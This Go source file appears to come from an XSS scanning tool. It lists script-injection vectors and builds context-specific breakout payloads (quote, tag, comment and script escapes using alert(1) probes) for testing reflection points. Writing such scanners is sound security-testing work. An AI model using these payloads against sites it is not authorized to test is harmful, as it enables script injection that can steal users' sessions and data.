package payloads

import (
	"fmt"
	"strings"

	"github.com/dop251/goja"

	"github.com/cybertron10/contextscan/internal/htmlctx"
)

// Candidate is one payload to try against a reflection point
type Candidate struct {
	Payload    string `json:"payload"`
	Breakout   string `json:"breakout"`   // leading bytes that leave the context, empty when none are needed
	Executable bool   `json:"executable"` // runs in place without leaving the context
}

// markup vectors that run script once they land in HTML text. %[1]s is the marker.
var htmlVectors = []string{
	"<svg id=%[1]s onload=alert(1)>",
	"<img src=x id=%[1]s onerror=alert(1)>",
	"<script>alert(1)//%[1]s</script>",
	"<details id=%[1]s open ontoggle=alert(1)>",
}

// BreakoutSequence returns the shortest prefix that leaves c for the next
// context of its breakout ladder.
func BreakoutSequence(c htmlctx.Context) string {
	switch c.Kind() {
	case htmlctx.KindHTMLText:
		return textBreakout(c)
	case htmlctx.KindHTMLComment:
		return "-->"
	case htmlctx.KindHTMLTag, htmlctx.KindAttrName, htmlctx.KindAttrUnquoted:
		return ">"
	case htmlctx.KindAttrSingleQuote, htmlctx.KindScriptSingleQuote:
		return "'"
	case htmlctx.KindAttrDoubleQuote, htmlctx.KindScriptDoubleQuote:
		return `"`
	case htmlctx.KindScriptText:
		return "</script>"
	case htmlctx.KindScriptLineComment:
		return "\n"
	case htmlctx.KindScriptMultiComment, htmlctx.KindStyleComment:
		return "*/"
	case htmlctx.KindStyleText, htmlctx.KindStyleSingleQuote, htmlctx.KindStyleDoubleQuote:
		return "</style>"
	}
	return ""
}

// textBreakout leaves plain text with '<' and a raw text element such as
// <textarea> with its end tag. Nothing leaves <plaintext>.
func textBreakout(c htmlctx.Context) string {
	switch c.Tag() {
	case "":
		return "<"
	case "plaintext":
		return ""
	}
	return "</" + c.Tag() + ">"
}

// ForContext returns the ordered candidates for a reflection in c. The most
// direct payloads come first.
func ForContext(c htmlctx.Context, marker string) []Candidate {
	var out []Candidate
	if c.IsExecutable() {
		out = append(out, inPlace(c, marker)...)
	}

	switch c.Kind() {
	case htmlctx.KindHTMLText:
		switch seq := textBreakout(c); seq {
		case "":
		case "<":
			for _, v := range htmlVectors {
				out = append(out, Candidate{Payload: fmt.Sprintf(v, marker), Breakout: "<"})
			}
		default:
			out = append(out, markup(seq, marker)...)
		}
	case htmlctx.KindHTMLComment, htmlctx.KindHTMLTag:
		out = append(out, markup(BreakoutSequence(c), marker)...)
	case htmlctx.KindAttrName:
		out = append(out, markup(">", marker)...)
		out = append(out, Candidate{Payload: " autofocus onfocus=alert(1) x" + marker, Breakout: " "})
	case htmlctx.KindAttrUnquoted:
		out = append(out, markup(">", marker)...)
		out = append(out, Candidate{Payload: " autofocus onfocus=alert(1) x=" + marker, Breakout: " "})
	case htmlctx.KindAttrSingleQuote, htmlctx.KindAttrDoubleQuote:
		q := BreakoutSequence(c)
		out = append(out, markup(q+">", marker)...)
		out = append(out, Candidate{
			Payload:  q + " autofocus onfocus=alert(1) x=" + q + marker,
			Breakout: q,
		})
	case htmlctx.KindScriptText:
		out = append(out, markup("</script>", marker)...)
	case htmlctx.KindScriptSingleQuote, htmlctx.KindScriptDoubleQuote:
		q := BreakoutSequence(c)
		out = append(out,
			Candidate{Payload: q + "-alert(1)-" + q + marker, Breakout: q},
			Candidate{Payload: q + ";alert(1)//" + marker, Breakout: q},
		)
		out = append(out, markup("</script>", marker)...)
	case htmlctx.KindScriptLineComment:
		out = append(out, Candidate{Payload: "\nalert(1)//" + marker, Breakout: "\n"})
		out = append(out, markup("</script>", marker)...)
	case htmlctx.KindScriptMultiComment:
		out = append(out, Candidate{Payload: "*/alert(1)/*" + marker, Breakout: "*/"})
		out = append(out, markup("</script>", marker)...)
	case htmlctx.KindStyleText, htmlctx.KindStyleSingleQuote, htmlctx.KindStyleDoubleQuote, htmlctx.KindStyleComment:
		out = append(out, markup("</style>", marker)...)
	}
	return out
}

// inPlace builds payloads for contexts the browser already executes
func inPlace(c htmlctx.Context, marker string) []Candidate {
	switch {
	case c.Kind() == htmlctx.KindScriptText:
		return []Candidate{
			{Payload: "alert(1)//" + marker, Executable: true},
			{Payload: ";alert(1)//" + marker, Executable: true},
		}
	case c.InAttribute() && strings.HasPrefix(c.Attr(), "on"):
		return []Candidate{{Payload: "alert(1)//" + marker, Executable: true}}
	case c.InAttribute():
		return []Candidate{{Payload: "javascript:alert(1)//" + marker, Executable: true}}
	}
	return nil
}

func markup(breakout, marker string) []Candidate {
	out := make([]Candidate, 0, len(htmlVectors))
	for _, v := range htmlVectors {
		out = append(out, Candidate{Payload: breakout + fmt.Sprintf(v, marker), Breakout: breakout})
	}
	return out
}

// ScriptCompiles reports a syntax error in src, nil when it parses
func ScriptCompiles(src string) error {
	if _, err := goja.Compile("reflected.js", src, false); err != nil {
		return fmt.Errorf("compile script: %w", err)
	}
	return nil
}
